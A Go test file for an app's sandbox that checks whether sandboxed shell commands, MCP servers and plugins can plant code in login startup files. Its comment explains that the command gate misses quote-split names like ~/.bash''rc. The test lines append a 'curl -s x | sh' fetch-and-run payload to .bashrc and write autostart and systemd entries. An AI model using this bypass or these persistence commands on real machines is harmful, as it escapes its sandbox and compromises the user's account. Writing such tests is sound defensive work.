package sandbox_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/wrasse-app/wrasse/plugins/sandbox"
)

// Granting the home folder (a common grant) makes the files the person's
// login runs writable to every sandbox: shell startup files, desktop
// autostart entries, systemd --user units. Their code then runs outside
// any sandbox at the next terminal or login. The gate asks only when a
// command's text names a startup file literally (`> ~/.bashrc`);
// `echo … >> ~/.bash”rc` or a plugin's or MCP server's own write is not
// seen. Programs under the home folder are already carved out of a
// command's grant (homePrograms); these run as surely, and are not.
func TestGrantedHomeCannotPlantLoginCode(t *testing.T) {
	requireLandlock(t)
	home := t.TempDir()
	for _, d := range []string{".config/autostart", ".config/systemd/user"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, rel := range []string{".bashrc", ".profile"} {
		if err := os.WriteFile(filepath.Join(home, rel), []byte("# the person's\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f := newFixture(t)
	policies := map[string]sandbox.Policy{
		"shell command":              sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Temp: f.temp, Network: true}),
		"MCP server":                 sandbox.ForMCP(sandbox.MCPOptions{Roots: []string{home}, Protected: f.protected(), Home: home, Program: "/bin/sh", Temp: f.temp, Network: true}),
		"plugin with files and exec": sandbox.ForPlugin(sandbox.PluginOptions{Roots: []string{home}, Protected: f.protected(), Files: true, Exec: true}),
	}
	for who, p := range policies {
		for _, tc := range []struct{ name, line string }{
			{"~/.bashrc", "echo 'curl -s x | sh' >> " + filepath.Join(home, ".bash''rc")},
			{"~/.profile", "echo 'id' >> " + filepath.Join(home, ".profile")},
			{"an autostart entry", "printf '[Desktop Entry]\\nExec=id\\n' > " + filepath.Join(home, ".config/autostart/a8.desktop")},
			{"a systemd --user unit", "printf '[Service]\\nExecStart=/usr/bin/id\\n' > " + filepath.Join(home, ".config/systemd/user/a8.service")},
		} {
			t.Run(who+" "+tc.name, func(t *testing.T) {
				if out, ok := run(t, p, tc.line); ok {
					t.Errorf("a sandboxed %s with the home folder granted wrote %s: succeeded (%s); want what the person's login runs read-only to every sandbox, as the home folder's programs are to commands", who, tc.name, out)
				}
			})
		}
	}
}
